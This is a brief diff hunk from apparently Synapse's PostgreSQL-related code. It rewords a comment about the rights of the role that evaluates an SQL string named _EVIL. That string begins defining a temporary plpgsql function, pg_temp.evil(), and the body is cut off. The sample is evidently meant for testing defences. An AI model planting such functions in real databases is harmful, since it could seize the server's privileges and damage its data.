@@ -41,7 +41,7 @@ _COLUMNS = {
     "thumbnail_length": "BIGINT",
 }
 
-# Runs as whoever evaluates it. If that is Synapse's role, it is the end of the server.
+# Has the rights of the role that evaluates it. With Synapse's, the server is lost.
 _EVIL = """
     CREATE FUNCTION pg_temp.evil() RETURNS VOID LANGUAGE plpgsql AS $$
     BEGIN
